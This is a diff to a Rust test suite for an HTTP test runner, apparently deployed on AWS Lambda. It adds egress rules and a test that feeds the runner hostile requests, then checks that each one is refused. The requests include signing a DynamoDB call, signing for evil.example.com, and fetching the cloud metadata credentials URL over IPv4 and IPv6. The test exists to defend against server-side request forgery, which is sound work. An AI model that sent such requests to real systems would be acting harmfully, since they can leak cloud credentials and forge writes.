@@ -11,6 +11,7 @@ use aws_sdk_lambda::primitives::Blob;
 use aws_smithy_mocks::{RuleMode, mock, mock_client};
 use handsoff::ports::http_client::SdkHttpSender;
 use handsoff::ports::lambda_invoke::LambdaInvoker;
+use handsoff::suite::egress::Egress;
 use handsoff::suite::{Outcome, RunSummary, Runner, Suite, TestResult};
 use handsoff_e2e::TargetServer;
 use serde_json::{Value, json};
@@ -30,7 +31,15 @@ fn config() -> aws_config::SdkConfig {
 }
 
 fn runner(lambda: aws_sdk_lambda::Client) -> Runner<SdkHttpSender, LambdaInvoker> {
-    Runner::new(SdkHttpSender::new(&config()), LambdaInvoker::new(lambda))
+    Runner::new(
+        SdkHttpSender::new(&config(), loopback_egress()),
+        LambdaInvoker::new(lambda),
+    )
+}
+
+/// The test servers run on loopback, which the runner refuses unless the stack allows it.
+fn loopback_egress() -> Egress {
+    Egress::from_settings(None, Some("127.0.0.1"), Some("127.0.0.0/8"), Some("us-east-1")).unwrap()
 }
 
 /// A Lambda client that fails the test if it is ever called.
@@ -397,4 +406,89 @@ async fn a_variable_the_stage_must_supply_is_named_when_missing() {
         .unwrap_err();
     assert_eq!(error.path, "vars.base_url");
     assert!(error.message.contains("--var base_url="), "{error}");
+}
+
+/// The runner's own rules, as in Lambda: API Gateway signing only, no loopback.
+fn strict_runner() -> Runner<SdkHttpSender, LambdaInvoker> {
+    let egress = Egress::from_settings(None, None, None, Some("eu-west-1")).unwrap();
+    Runner::new(SdkHttpSender::new(&config(), egress), LambdaInvoker::new(no_lambda()))
+}
+
+/// Before, a suite could make the runner sign any request for any service with its own role
+/// (a DynamoDB PutItem of a forged override, say) and fetch loopback or link-local targets
+/// (the Lambda runtime API, the metadata service), and store what came back. Now each such
+/// request is refused before anything is signed or sent, and nothing comes back to store.
+#[tokio::test]
+async fn a_suite_cannot_make_the_runner_sign_for_other_services_or_reach_internal_addresses() {
+    let server = TargetServer::start();
+    let port = server.base_url().rsplit(':').next().unwrap().to_string();
+    let suite = suite(json!({
+        "name": "hostile",
+        "vars": {"base_url": null, "port": null},
+        "tests": [
+            {"name": "forge an override", "http": {"method": "POST", "url": "https://dynamodb.eu-west-1.amazonaws.com/",
+              "body": "{}", "sign": {"service": "dynamodb"}}},
+            {"name": "sign for a host of its choosing", "http": {"url": "https://evil.example.com/",
+              "sign": {"service": "execute-api"}}},
+            {"name": "loopback", "http": {"url": "${base_url}/echo"}},
+            {"name": "loopback by name", "http": {"url": "http://localhost:${port}/echo"}},
+            {"name": "metadata", "http": {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}},
+            {"name": "metadata over IPv6", "http": {"url": "http://[fd00:ec2::254]/latest/meta-data/"}}
+        ]
+    }));
+    let mut stage = vars(&server.base_url());
+    stage.insert("port".into(), port);
+    let summary = strict_runner()
+        .run(&suite, &stage, Instant::now() + Duration::from_secs(20), "run-1".into())
+        .await
+        .unwrap();
+    assert_eq!((summary.passed, summary.failed), (0, 6), "{}", summary.render());
+    for (name, says) in [
+        ("forge an override", "refused to sign for `dynamodb`"),
+        (
+            "sign for a host of its choosing",
+            "refused to sign a request to evil.example.com",
+        ),
+        ("loopback", "refused to connect to 127.0.0.1, a loopback"),
+        ("loopback by name", "resolves to"),
+        ("metadata", "refused to connect to 169.254.169.254, a link-local"),
+        ("metadata over IPv6", "refused to connect to fd00:ec2::254"),
+    ] {
+        let result = result(&summary, name);
+        assert_eq!(result.outcome, Outcome::Failed, "{name}");
+        assert!(
+            result.failures.iter().any(|failure| failure.contains(says)),
+            "{name}: {:?}",
+            result.failures
+        );
+        assert!(
+            result.received.is_none(),
+            "{name}: nothing came back, so nothing is stored"
+        );
+    }
+    assert!(
+        server.requests("/echo").is_empty(),
+        "no request reached the loopback server"
+    );
+}
+
+/// The runner reads at most 1 MiB of a body and stops reading there: a 300 MB answer never
+/// sits in its memory. The server sees the client stop long before the end.
+#[tokio::test]
+async fn a_huge_body_is_read_only_up_to_the_cap() {
+    let server = TargetServer::start();
+    let suite = suite(json!({
+        "name": "huge", "vars": {"base_url": null},
+        "tests": [{"name": "huge", "http": {"url": "${base_url}/huge"}, "expect": {"body_contains": ["xxxx"]}}]
+    }));
+    let summary = run(&suite, &vars(&server.base_url()), Duration::from_secs(30)).await;
+    assert_eq!(summary.passed, 1, "{}", summary.render());
+    // Give the server a moment to notice the closed connection.
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let sent = server.huge_sent();
+    assert!(
+        sent < handsoff_e2e::target_server::HUGE_BODY / 4,
+        "the client read {sent} bytes of a {} byte body",
+        handsoff_e2e::target_server::HUGE_BODY
+    );
 }
